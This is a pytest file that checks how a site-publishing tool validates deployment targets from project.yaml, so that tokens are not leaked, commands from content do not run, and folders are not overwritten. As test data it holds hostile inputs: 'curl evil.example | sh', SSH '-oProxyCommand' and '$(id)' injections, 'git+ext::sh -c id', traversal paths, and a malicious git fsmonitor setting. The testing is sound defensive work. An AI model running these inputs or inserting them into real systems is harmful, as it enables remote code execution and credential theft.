"""What a target may be: a name of one or a place, never a way to a secret, a program or a folder of others."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plugins.publishing.releases import CannotPublish, Target, publish, read_target
from plugins.publishing.source import refuse_uncommitted
from plugins.publishing.trust import refuse_untrusted, same_repository
from tests.conftest import ROOT, run_site, with_bare, write

ORIGIN = "https://example.org/we/site.git"
TODAY = ("--today", "2026-06-15")


@pytest.fixture
def content(tmp_path: Path) -> Path:
    return write(tmp_path / "content", with_bare({}))


def with_target(content: Path, place: str, **more: str) -> None:
    entry = "".join(f", {key}: {value!r}" for key, value in more.items())
    with (content / "project.yaml").open("a") as file:
        file.write(f"targets: {{live: {{place: {place!r}{entry}}}}}\n")


def untrusted(place: str, origin: str = ORIGIN, **more: str) -> str:
    """Return why a place may not be named by content; empty where it may."""
    entry = {"place": place, **more}
    try:
        refuse_untrusted("live", read_target("live", {"live": entry}), entry, origin)
    except CannotPublish as error:
        return str(error)
    return ""


def test_a_place_that_would_receive_a_token_is_refused_with_the_line_for_publishconf(content, monkeypatch):
    with_target(content, "git+https://evil.example/site.git", address="https://example.org/")
    monkeypatch.setenv("SITE_GIT_TOKEN", "very-secret-token")

    for words in (["publish", "live"], ["publish", "live", "--dry-run"], ["rollback", "live"]):
        done = run_site(*words, "--content", content)

        assert done.returncode == 1
        assert done.stderr.endswith(
            "the target “live” of project.yaml would receive your password or SITE_GIT_TOKEN, and it is not the "
            "repository of this checkout (origin), and everybody who writes pages can change project.yaml. If the "
            "place is right, add this line at the end of publishconf.py, and take the target out of project.yaml:\n"
            '    TARGETS["live"] = {"place": "git+https://evil.example/site.git", "address": "https://example.org/"}\n'
        )


def test_the_line_for_publishconf_works():
    message = untrusted("s3://bucket", address="https://example.org/ü")
    named: dict[str, dict[str, str]] = {}

    exec(message.splitlines()[-1].strip(), {"TARGETS": named})

    assert named == {"live": {"place": "s3://bucket", "address": "https://example.org/ü"}}
    assert read_target("live", named).kind == "s3"


@pytest.mark.parametrize(
    ("place", "why"),
    [
        ("s3://anybodys-bucket", "is a store, which needs the keys of your account"),
        ("git+https://evil.example/site.git", "would receive your password or SITE_GIT_TOKEN"),
        ("git+https://example.org/evil/site.git", "would receive your password or SITE_GIT_TOKEN"),
        ("git+https://example.org:8443/we/site.git", "would receive your password or SITE_GIT_TOKEN"),
        ("git+https://example.org.evil.example/we/site.git", "would receive your password or SITE_GIT_TOKEN"),
        ("git+https://example.org/we/site.git/../../evil/site.git", "would receive your password or SITE_GIT_TOKEN"),
        ("git+file:///srv/content/evil.git", "whose hooks would run here"),
    ],
)
def test_places_that_content_may_not_name(place, why):
    assert why in untrusted(place)


@pytest.mark.parametrize("place", ["/srv/site", "web@example.org:/srv/site"])
def test_no_command_comes_from_content(place):
    message = untrusted(place, after="curl evil.example | sh")

    assert "the target “live” of project.yaml runs a command (“after”)" in message
    assert message.endswith(f'TARGETS["live"] = {{"place": "{place}", "after": "curl evil.example | sh"}}')


@pytest.mark.parametrize("place", ["/srv/site", "web@example.org:/srv/site", "git+ssh://git@example.org/any/site.git"])
def test_places_that_receive_the_site_and_no_secret_may_stand_in_content(place):
    assert untrusted(place) == ""


@pytest.mark.parametrize(
    "origin",
    [
        ORIGIN,
        "https://example.org/we/site",
        "https://EXAMPLE.org:443/we/site/",
        "git@example.org:we/site.git",
        "ssh://git@example.org/we/site.git",
        "https://me@example.org/we/site.git",
    ],
)
def test_the_repository_of_the_checkout_may_stand_in_content(origin):
    assert untrusted("git+https://example.org/we/site.git#gh-pages", origin) == ""


@pytest.mark.parametrize("origin", ["", "/srv/git/site.git", "file:///srv/site.git", "http://example.org/we/site.git"])
def test_an_origin_without_a_host_is_that_of_no_target(origin):
    assert untrusted("git+https://example.org/we/site.git", origin)


@given(st.text(), st.text())
def test_two_addresses_are_never_one_repository_unless_host_and_path_agree(one, other):
    assert same_repository(f"https://example.org/{one}", f"https://evil.example/{other}") is False


def test_a_name_in_content_does_not_change_what_a_written_place_means():
    place = "git+https://example.org/we/site.git#gh-pages"

    assert read_target(place, {place: {"place": "s3://evil"}}) == read_target(place)


@pytest.mark.parametrize("word", ["live", "site.git", "example.org", "--dry-runs", "größe", "a b"])
def test_a_single_word_is_a_name_and_never_a_folder(word, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / word).mkdir()

    with pytest.raises(CannotPublish) as refused:
        read_target(word)

    assert str(refused.value) == (
        f"there is no target “{word}”. project.yaml and publishconf.py name no targets. "
        f"A folder is written as a path: ./{word} or /srv/{word}."
    )


def test_a_target_that_does_not_exist_makes_no_folder_and_ends_with_an_error(content, tmp_path):
    done = run_site("publish", "live", "--content", content, *TODAY)

    assert (done.returncode, done.stdout) == (1, "")
    assert "there is no target “live”" in done.stderr
    assert not (ROOT / "live").exists()


@pytest.mark.parametrize("written", ["./live", "live/", "../live", "~/live"])
def test_a_folder_is_written_as_a_path(written, tmp_path, monkeypatch):
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    monkeypatch.setenv("HOME", str(tmp_path))

    folder = {"./live": "here/live", "live/": "here/live"}.get(written, "live")
    assert read_target(written) == Target(str(tmp_path / folder))


@pytest.mark.parametrize(
    "written",
    [
        "-oProxyCommand=touch:/srv/site",
        "me@-oProxyCommand=touch:/srv/site",
        "-me@host:/srv/site",
        "host;id:/srv/site",
        "$(id)@host:/srv/site",
        "host:/srv/foreign/nope/..",
        "host:srv/site",
        "https://example.org/site",
        "git@example.org:we/site.git",
        "git+https://-oProxyCommand/x",
        "git+ssh://-oProxyCommand=touch/x",
        "git+ssh://git@-oProxyCommand=touch/x",
        "git+https://[::1/x",
        "git+ext::sh -c id",
        "git+http://example.org/site.git",
        "git+https://example.org/site.git#-f",
        "git+https://example.org/site.git#a..b",
        "git+https://example.org/site.git#a.lock",
        "git+https://example.org/site.git#HEAD",
        "git+https://example.org/site.git#" + "b" * 300,
        "~nobody-of-this-name/site",
        "/srv/\x00site",
        "/srv/\x1b[2Jsite",
        "",
    ],
)
def test_hostile_targets_are_refused_in_a_sentence(written):
    with pytest.raises(CannotPublish) as refused:
        read_target(written)

    assert str(refused.value).isprintable()


@given(
    st.text(st.characters(exclude_categories=()), max_size=60),
    st.sampled_from(["", "git+", "git+ssh://", "s3://", "h:/", "/", "git+https://h/"]),
)
def test_any_text_is_a_target_or_refused_in_a_sentence(text, start):
    said = ""
    try:
        target = read_target(start + text)
    except CannotPublish as error:
        said, target = str(error), Target("/srv/site")

    assert "\x1b" not in said
    assert not target.host.startswith("-")
    assert ".." not in Path(target.folder).parts


@pytest.mark.parametrize(
    "written",
    [
        "git+https://example.org/site.git?access_token=hidden",
        "git+https://me:hid/den@example.org/site.git",
        "git+https://me:hid@den@example.org/site.git",
        "https://me:hidden@example.org/site.git",
        "s3://bucket/x?token=hidden",
        "host:https://me:hidden@example.org/",
    ],
)
def test_a_secret_in_a_target_is_never_printed(written):
    with pytest.raises(CannotPublish) as refused:
        read_target(written)

    assert "hid" not in str(refused.value)
    assert "den@" not in str(refused.value)


@pytest.mark.parametrize("end", ["nope/..", "nope/../", "a/b/../..", "./nope/.."])
def test_a_winding_path_into_a_foreign_folder_is_refused_and_changes_nothing(end, tmp_path, version):
    foreign = write(tmp_path / "foreign", {"releases/20200101T000000Z.partial/thesis.txt": b"years of work"})

    with pytest.raises(CannotPublish, match="holds other things"):
        publish(version(1), read_target(f"{foreign}/{end}"), "20260616T000000Z")

    assert [path.name for path in foreign.rglob("*") if path.is_file()] == ["thesis.txt"]
    assert sorted(path.name for path in foreign.iterdir()) == ["releases"]


def test_a_winding_path_through_a_link_is_judged_where_it_leads(tmp_path, version):
    write(tmp_path / "foreign", {"inner/x.txt": b"", "thesis.txt": b"years of work"})
    (tmp_path / "link").symlink_to(tmp_path / "foreign/inner")

    with pytest.raises(CannotPublish, match="foreign holds other things"):
        publish(version(1), read_target(f"{tmp_path}/link/.."), "20260616T000000Z")


def test_a_folder_that_somebody_fills_in_between_is_refused(tmp_path, version, monkeypatch):
    from plugins.publishing import folder

    real = Path.mkdir

    def filled(path: Path, *words: object, **more: object) -> None:
        real(path, *words, **more)
        if path.name == "web":
            (path / "thesis.txt").write_text("years of work")

    monkeypatch.setattr(folder.Path, "mkdir", filled)

    with pytest.raises(CannotPublish, match="holds other things"):
        publish(version(1), read_target(f"{tmp_path}/web"), "20260616T000000Z")
    assert [path.name for path in (tmp_path / "web").iterdir()] == ["thesis.txt"]


@pytest.mark.parametrize("name", ["notes.partial", "20200101T000000Z.partial"])
def test_only_what_is_named_like_a_release_is_removed_from_the_folder(name, live, version, tmp_path):
    write(live / "releases" / name, {"thesis.txt": b"years of work"})
    write(tmp_path / "others", {"thesis.txt": b"years of work"})
    (live / "releases/20200102T000000Z.partial").symlink_to(tmp_path / "others")

    publish(version(2), read_target(str(live)), "20260616T000000Z")

    assert (live / "releases" / name).exists() is (name == "notes.partial")
    assert (tmp_path / "others/thesis.txt").exists()


def test_settings_in_the_content_folder_run_no_program(tmp_path):
    """A folder that looks like a bare repository is none to us: its settings may name programs for git to run."""
    content = write(tmp_path / "content", with_bare({}))
    subprocess.run(["git", "init", "--quiet", "--bare", tmp_path / "bare"], check=True)
    for name in ("HEAD", "config", "objects", "refs"):
        part = tmp_path / "bare" / name
        (shutil.copytree if part.is_dir() else shutil.copy)(part, content / name)
    (content / "config").write_text(
        f'[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = {content}\n\tfsmonitor = "touch {tmp_path}/run; false"\n'
    )
    plain = subprocess.run(["git", "add", "index.md"], cwd=content, check=False, capture_output=True)
    assert plain.returncode == 0
    assert (tmp_path / "run").exists()  # so it goes without care
    (tmp_path / "run").unlink()

    refuse_uncommitted(content, "content")

    assert not (tmp_path / "run").exists()
